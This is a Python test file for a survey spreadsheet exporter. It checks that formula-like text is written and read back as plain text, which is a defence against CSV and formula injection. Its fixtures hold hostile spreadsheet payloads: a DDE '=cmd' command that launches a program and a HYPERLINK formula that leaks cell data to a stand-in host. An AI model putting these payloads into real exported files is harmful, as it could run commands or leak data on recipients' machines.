"""The survey template writes text that looks like a formula as text, and reads it back unchanged."""

from surveys.excel import META_TOWN_NAME, read_upload, template_workbook
from surveys.spec import META_SHEET
from surveys.validation import CommitteeRef, normalize_row
from tests.libreoffice import sheets_as_csv
from tests.surveys.forms import FORMS, YEAR, form, rows
from tests.xlsx import assert_no_formula, formula_like_cells

HYPERLINK = '=HYPERLINK("http://x"&A1,"点我")'
DDE = "=cmd|' /C calc'!A0"
TOWN = CommitteeRef("XS01", DDE, "town")
COMMITTEES = [TOWN, CommitteeRef("XS01V01", HYPERLINK, "village"), CommitteeRef("XS01V02", "+1", "community")]


def template() -> bytes:
    values = {}
    for number in range(1, 6):
        for name, section in rows(number).items():
            for row in section:
                if "committee_name" in row:
                    row["committee_name"] = next(u.name for u in COMMITTEES if u.code == row["committee_code"])
            if (number, name) == (1, "main"):
                section[0]["director_name"] = "-2"
            if (number, name) == (5, "B"):
                section[0] |= {"name": "@SUM(A1)", "summary": HYPERLINK, "key_figures": DDE}
            values[(number, name)] = [normalize_row(form(number).section(name), r) for r in section]
    return template_workbook(FORMS, values, year=YEAR, town=TOWN, committees=COMMITTEES)


def test_no_cell_of_the_template_is_a_formula():
    data = template()
    assert_no_formula(data)
    cells = formula_like_cells(data)
    assert {c.parent.title for c in cells} >= {"表1 班子队伍", "表5B 品牌项目", "单位编码表", META_SHEET}
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_the_text_reads_back_as_it_was_written():
    upload = read_upload(template(), FORMS)
    assert upload.errors == []
    assert upload.meta[META_TOWN_NAME] == DDE
    leadership = {r["committee_code"]: r for r in upload.sheet("表1").rows}
    assert leadership["XS01"]["committee_name"] == DDE
    assert leadership["XS01"]["director_name"] == "-2"
    assert leadership["XS01V01"]["committee_name"] == HYPERLINK
    brand = upload.sheet("表5B").rows[0]
    assert (brand["name"], brand["summary"], brand["key_figures"]) == ("@SUM(A1)", HYPERLINK, DDE)


def test_libreoffice_shows_the_text_as_typed(tmp_path):
    source = tmp_path / "survey.xlsx"
    source.write_bytes(template())
    sheets = sheets_as_csv(source, tmp_path)
    headers, *lines = sheets["表5B 品牌项目"]
    brand = dict(zip(headers, lines[0], strict=True))
    assert (brand["品牌名称"], brand["简介"], brand["关键数字"]) == ("@SUM(A1)", HYPERLINK, DDE)
    headers, *lines = sheets["表1 班子队伍"]
    leadership = {line[0]: dict(zip(headers, line, strict=True)) for line in lines}
    assert (leadership["XS01"]["单位名称"], leadership["XS01"]["主任姓名"]) == (DDE, "-2")
    assert [row[:2] for row in sheets["单位编码表"][1:]] == [["XS01", DDE], ["XS01V01", HYPERLINK], ["XS01V02", "+1"]]
